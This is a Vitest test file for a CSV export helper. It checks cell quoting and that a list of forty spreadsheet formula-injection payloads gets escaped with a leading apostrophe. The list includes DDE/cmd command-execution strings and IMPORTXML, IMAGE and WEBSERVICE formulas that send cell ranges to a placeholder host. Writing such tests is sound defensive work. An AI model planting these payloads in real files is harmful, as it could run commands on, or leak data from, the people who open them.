import { describe, expect, it } from 'vitest'
import { csvFile, escapeFormula } from './csv'

describe('CSV file', () => {
  it('opens in every spreadsheet, and runs no formula', async () => {
    const text = await csvFile([
      ['Row', 'Column'],
      [5, 'Cell, mobile'],
      [6, '=1+1'],
      [7, 'the "good" one'],
    ]).text()
    expect(text.replace('\uFEFF', '')).toBe('Row,Column\r\n5,"Cell, mobile"\r\n6,\'=1+1\r\n7,"the ""good"" one"\r\n')
  })
})

/** Same table as the server (shared/src/domain/intake/lead/export.rs). */
const PAYLOADS = [
  '=HYPERLINK("http://x")',
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '  =1',
  '＝1',
  '＋1',
  '－1',
  '＠x',
  "=cmd|' /C calc'!A0",
  '-2-3',
  "+cmd|'x'",
  '@import',
  '=',
  '+',
  '-',
  '@',
  '-A1',
  '+A1',
  '=1+1";=1+1',
  '=IMPORTXML(CONCAT("http://x?", A1:Z99), "//a")',
  '=IMAGE("https://x/"&A1)',
  '=WEBSERVICE("https://x/"&A1)',
  '=DDE("cmd";"/C calc";"x")',
  "=MSEXCEL|'\\..\\..\\cmd.exe'!''",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-1+1+cmd|' /C calc'!A0",
  '+1-1',
  '+(1)',
  '-(1)-1',
  ' \t=1',
  '   +A1',
  ' ＝1',
  '\r\n=1',
  '=\u200b1',
  '-1E9',
]

describe('CSV cell', () => {
  it('escapes the forty formula forms of the server’s tests', () => expect(new Set(PAYLOADS).size).toBe(40))

  it.each(PAYLOADS)('with %j: escaped', (cell) => expect(escapeFormula(cell)).toBe(`'${cell}`))

  it.each(['+1 512 555 0142', '+15125550142', '(512) 555-0142', '-3.50', 'Ann = Bob', 'a@b.c', ''])(
    'with %j: unchanged',
    (cell) => expect(escapeFormula(cell)).toBe(cell),
  )
})
